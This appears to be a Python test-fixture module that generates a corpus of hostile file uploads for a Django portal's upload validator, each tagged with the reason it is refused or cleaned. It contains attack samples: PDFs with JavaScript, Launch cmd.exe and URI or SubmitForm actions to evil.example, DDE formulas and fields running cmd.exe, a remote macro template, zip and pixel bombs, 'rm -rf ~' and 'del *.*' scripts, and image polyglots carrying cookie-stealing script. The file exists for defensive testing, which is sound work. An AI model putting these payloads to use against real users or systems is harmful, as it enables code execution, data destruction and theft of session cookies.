"""A hostile corpus of uploads, generated here: each file and the reason it must be refused.

Used by the upload tests and by `manage.py upload_corpus`, which prints how many are refused.
Nothing here touches the network or the database.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from django.conf import settings as django_settings
from openpyxl import Workbook
from PIL import Image

from ..demo.portal import sample_pdf, sample_photo

# Building blocks ---------------------------------------------------------------------


def make_pdf(objects: list[bytes]) -> bytes:
    """A PDF from object bodies (object 1 is the catalog), with a correct cross-reference table."""
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def pdf_with_open_action(action: bytes) -> bytes:
    return make_pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE, action])


def pdf_with_hidden_javascript() -> bytes:
    """JavaScript on a link annotation, its names written with #-escapes so no plain token shows."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>"
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"
    return make_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, page, annotation])


def make_zip(entries: dict[str, bytes], *, encrypted: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    data = bytearray(buffer.getvalue())
    if encrypted:
        # zipfile cannot encrypt: set the "encrypted" flag in the local and central headers by hand.
        for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            start = data.find(signature)
            while start != -1:
                data[start + offset] |= 0x1
                start = data.find(signature, start + 4)
    return bytes(data)


def content_types(main: str, extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
    ).encode()


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCUMENT = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'


def docx(extra_entries: dict | None = None, main: str = DOCX_MAIN, extra_types: str = "") -> bytes:
    entries = {
        "[Content_Types].xml": content_types(main, extra_types),
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": DOCUMENT,
    }
    entries.update(extra_entries or {})
    return make_zip(entries)


def xlsx() -> bytes:
    workbook = Workbook()
    workbook.active["A1"] = "Bảng điểm tự chấm"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsm_content_types(data: bytes) -> bytes:
    """An XLSX whose workbook is declared macro-enabled (an .xlsm renamed .xlsx)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    entries = {name: source.read(name) for name in source.namelist()}
    entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return make_zip(entries)


def odf(mimetype: str, content: bytes = b"<office:document-content/>", extra: dict | None = None) -> bytes:
    entries = {
        "mimetype": mimetype.encode(),
        "content.xml": content,
        "META-INF/manifest.xml": b"<manifest:manifest/>",
    }
    entries.update(extra or {})
    return make_zip(entries)


ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"


def image_bytes(fmt: str, size=(60, 40)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, fmt)
    return buffer.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A PNG header that claims a huge picture: a decompression bomb needs nothing more to be refused."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
    )


# The corpus ---------------------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal')</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PE = b"MZ\x90\x00\x03" + b"\x00" * 59 + b"PE\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200

HOSTILE = [
    ("trang-web.html", lambda: HTML, "html"),
    ("bien-ban.pdf", lambda: HTML, "html"),
    ("so-do.svg", lambda: SVG, "svg"),
    ("anh.png", lambda: SVG, "svg"),
    ("cai-dat.sh", lambda: b"#!/bin/sh\nrm -rf ~\n", "script"),
    ("ghi-chu.pdf", lambda: b"#!/usr/bin/env python\nimport os\n", "script"),
    ("tien-ich.js", lambda: b"alert(document.cookie)", "script"),
    ("chay.bat", lambda: b"@echo off\r\ndel *.*\r\n", "script"),
    ("setup.exe", lambda: PE, "executable"),
    ("bao-cao.pdf", lambda: PE, "executable"),
    ("bao-cao.docx", lambda: ELF, "executable"),
    ("ho-so.zip", lambda: make_zip({"a.txt": b"hello"}), "archive"),
    ("ke-hoach.docx", lambda: make_zip({"a.txt": b"hello"}), "archive"),
    ("sao-luu.pdf", lambda: gzip.compress(b"hello" * 100), "archive"),
    ("ho-so.rar", lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64, "archive"),
    ("ho-so.pdf", lambda: b"7z\xbc\xaf\x27\x1c" + b"\x00" * 64, "archive"),
    ("van-ban.docx", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "macro"),
    ("van-ban.docx", lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macro"),
    ("bang-diem.xlsx", lambda: xlsm_content_types(xlsx()), "macro"),
    ("van-ban.docm", lambda: docx(), "macro"),
    ("bang-diem.xlsm", lambda: xlsx(), "macro"),
    (
        "mau.docx",
        lambda: docx(
            {
                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/'
                b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
                b'TargetMode="External"/></Relationships>'
            }
        ),
        "macro",
    ),
    ("bien-ban.odt", lambda: odf(ODT, extra={"Basic/Standard/Module1.xml": b"<script:module/>"}), "macro"),
    (
        "bien-ban.odt",
        lambda: odf(ODT, b'<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
        "macro",
    ),
    ("bang-diem.ods", lambda: odf(ODS, extra={"Scripts/python/run.py": b"import os"}), "macro"),
    ("js.pdf", lambda: pdf_with_open_action(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "pdf_active"),
    ("mo.pdf", lambda: pdf_with_open_action(b"<< /S /Launch /F (cmd.exe) >>"), "pdf_active"),
    ("an.pdf", pdf_with_hidden_javascript, "pdf_active"),
    (
        "nhieu-phan.docx",
        lambda: docx({f"word/media/p{i}.xml": b"x" for i in range(django_settings.UPLOAD_MAX_OFFICE_ENTRIES)}),
        "office_bounds",
    ),
    ("bom.png", lambda: png_claiming(100_000, 100_000), "pixels"),
    ("anh.pdf", lambda: image_bytes("PNG"), "mismatch"),
    ("anh.jpg", lambda: image_bytes("PNG"), "mismatch"),
    ("scan.docx", lambda: sample_pdf(title="Biên bản", lines=["Nội dung"]), "mismatch"),
    ("bang.xlsx", lambda: docx(), "mismatch"),
    ("ghi-chu.txt", lambda: "Ghi chú của xã".encode(), "unsupported"),
    ("cu.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "unsupported"),
    ("ban-cu.pdf", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "unsupported"),
    ("trinh-chieu.odt", lambda: odf("application/vnd.oasis.opendocument.presentation"), "unsupported"),
    ("rong.pdf", lambda: b"", "empty"),
    ("hong.pdf", lambda: b"%PDF-1.4\n garbage without objects", "damaged"),
    ("hong.png", lambda: image_bytes("PNG")[:40], "damaged"),
    ("khoa.docx", lambda: make_zip({"[Content_Types].xml": content_types(DOCX_MAIN)}, encrypted=True), "encrypted"),
]


# Closed since the first corpus: actions run on opening, attached files, bombs, links to other files.


def pdf_with_page_action(action: bytes) -> bytes:
    """A page that runs `action` when it is opened (/AA /O)."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>"
    return make_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, page, action])


def pdf_with_attachment() -> bytes:
    """A PDF carrying a program in its /EmbeddedFiles name tree."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(hoa-don.exe) 4 0 R] >> >> >>"
    spec = b"<< /Type /Filespec /F (hoa-don.exe) /EF << /F 5 0 R >> >>"
    stream = b"<< /Type /EmbeddedFile /Length 5 >>\nstream\nMZ\x90\x00\x03\nendstream"
    return make_pdf([catalog, PAGES, PAGE, spec, stream])


def pdf_with_attachment_annotation() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>"
    annotation = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.docm) >>"
    return make_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, page, annotation])


def docx_bomb(unpacked_mb: int = 200) -> bytes:
    """A small DOCX whose one part unpacks to `unpacked_mb` MB of zeros (the 204 KB → 200 MB kind)."""
    return docx({"word/media/zeros.bin": b"\0" * (unpacked_mb * 1024 * 1024)})


def xlsx_with(extra: dict[str, bytes] | None = None, formula: str | None = None) -> bytes:
    workbook = Workbook()
    workbook.active["A1"] = "Bảng điểm tự chấm"
    if formula:
        workbook.active["B2"] = formula
    buffer = io.BytesIO()
    workbook.save(buffer)
    if not extra:
        return buffer.getvalue()
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    entries = {name: source.read(name) for name in source.namelist()}
    entries.update(extra)
    return make_zip(entries)


EXTERNAL_LINK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<externalBook r:id="rId1"/></externalLink>'
)
DDE_LINK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
)
DDE_FIELD = (
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
    b'<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
    b'"/k calc.exe" </w:instrText></w:r></w:p></w:body></w:document>'
)
ODS_DDE = (
    b"<office:document-content><office:body><office:spreadsheet><table:dde-links><table:dde-link>"
    b'<office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/>'
    b"</table:dde-link></table:dde-links></office:spreadsheet></office:body></office:document-content>"
)
ODS_EXTERNAL = (
    b"<office:document-content><office:body><office:spreadsheet>"
    b'<table:table table:name="A"><table:table-source xlink:href="file:///C:/secret.ods"/></table:table>'
    b"</office:spreadsheet></office:body></office:document-content>"
)

HOSTILE += [
    ("mo-trang.pdf", lambda: pdf_with_open_action(b"<< /S /URI /URI (http://evil.example/track) >>"), "pdf_automatic"),
    ("mo-tep.pdf", lambda: pdf_with_open_action(b"<< /S /GoToR /F (//evil/share/a.pdf) >>"), "pdf_automatic"),
    (
        "gui-di.pdf",
        lambda: pdf_with_open_action(b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>"),
        "pdf_active",
    ),
    ("trang-mo.pdf", lambda: pdf_with_page_action(b"<< /S /URI /URI (http://evil.example/) >>"), "pdf_automatic"),
    ("dinh-kem.pdf", pdf_with_attachment, "pdf_embedded"),
    ("ghim-tep.pdf", pdf_with_attachment_annotation, "pdf_embedded"),
    ("bom-nen.docx", docx_bomb, "office_bomb"),
    ("lien-ket.xlsx", lambda: xlsx_with({"xl/externalLinks/externalLink1.xml": EXTERNAL_LINK}), "external"),
    ("dde.xlsx", lambda: xlsx_with({"xl/externalLinks/externalLink1.xml": DDE_LINK}), "external"),
    ("cong-thuc-dde.xlsx", lambda: xlsx_with(formula="=cmd|' /C calc'!A0"), "external"),
    ("truong-dde.docx", lambda: docx({"word/document.xml": DDE_FIELD}), "external"),
    ("dde.ods", lambda: odf(ODS, ODS_DDE), "external"),
    ("lien-ket.ods", lambda: odf(ODS, ODS_EXTERNAL), "external"),
]


# Pictures are not refused but drawn again: what is kept carries neither metadata nor appended bytes.

GPS_LATITUDE = 0x0002


def jpeg_with_gps() -> bytes:
    """A photo whose EXIF holds the GPS position where it was taken, and a comment."""
    image = Image.open(io.BytesIO(sample_photo(caption="Bộ phận một cửa")))
    exif = Image.Exif()
    exif[0x010E] = "Tan Hiep one-stop counter"
    exif.get_ifd(0x8825)[GPS_LATITUDE] = (10.0, 6.0, 30.0)
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif.tobytes(), comment=b"secret note")
    return buffer.getvalue()


POLYGLOT_TAIL = b"<html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>"


def jpeg_html_polyglot() -> bytes:
    """A valid JPEG with a web page appended after its end marker."""
    return sample_photo(caption="Ảnh minh chứng") + POLYGLOT_TAIL


def png_with_text_and_tail() -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    buffer = io.BytesIO()
    Image.new("RGB", (60, 40), (10, 120, 10)).save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue() + POLYGLOT_TAIL


@dataclass(frozen=True)
class Cleaned:
    name: str
    build: Callable[[], bytes]
    # Bytes none of which may remain in the kept file.
    gone: tuple[bytes, ...]


CLEANED = [
    Cleaned("anh-gps.jpg", jpeg_with_gps, (b"Exif", b"Tan Hiep one-stop", b"secret note")),
    Cleaned("anh-da-nang.jpg", jpeg_html_polyglot, (b"<html", b"<script")),
    Cleaned("so-do-da-nang.png", png_with_text_and_tail, (b"<html", b"<script", b"tEXt")),
]
